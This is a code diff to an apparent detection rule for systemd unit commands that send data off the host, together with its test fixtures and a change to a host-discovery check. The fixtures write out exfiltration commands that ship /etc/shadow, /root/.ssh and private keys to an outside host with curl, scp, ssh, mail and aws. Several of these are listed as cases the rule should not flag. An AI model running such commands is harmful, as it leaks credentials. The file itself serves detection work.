@@ -42,6 +42,7 @@ export const sendsDataOut: ActivationRule = {
       ),
       timed("ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/"),
       timed("ExecStart=/bin/sh -c '(id; uname -a; ps aux) | curl -s -F f=@- https://paste.example.test/'"),
+      timed("ExecStart=/usr/bin/curl -F f=@/srv/data http://192.0.2.7/"),
     ],
     quiet: [
       timed("ExecStart=/bin/sh -c 'df -P | curl -fsS --data-binary @- https://influx.example.test/write'"),
@@ -49,6 +50,12 @@ export const sendsDataOut: ActivationRule = {
       timed("ExecStart=/usr/bin/restic backup /srv"),
       shipped("vendor", "ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/"),
       timed("ExecStart=/usr/bin/scp /srv/x backup@192.0.2.7:/srv/"),
+      timed("ExecStart=/usr/bin/scp /etc/shadow backup@192.0.2.7:/srv/"),
+      timed("ExecStart=/bin/sh -c 'tar c /root/.ssh | ssh backup@192.0.2.7 dd of=x'"),
+      timed("ExecStart=/usr/bin/rclone copy /srv remote:x"),
+      timed("ExecStart=/bin/sh -c 'mail -s x root@example.test < /etc/shadow'"),
+      timed("ExecStart=/bin/sh -c 'ssh backup@192.0.2.7 dd of=x < /root/.ssh/id_rsa'"),
+      timed("ExecStart=/usr/bin/aws s3 cp /etc/shadow s3://backup/"),
     ],
   },
 };
@@ -73,8 +80,6 @@ const DISCOVERY =
 
 /** Three such programs in one job are a description of the host. */
 function describesHost({ followed }: ClosureCommand): boolean {
-  const used = new Set(
-    followed.reached.filter(({ kind }) => kind === "program").map(({ name }) => baseName(name)),
-  );
+  const used = new Set(followed.reached.map(({ name }) => baseName(name)));
   return [...used].filter((name) => DISCOVERY.test(name)).length >= 3;
 }
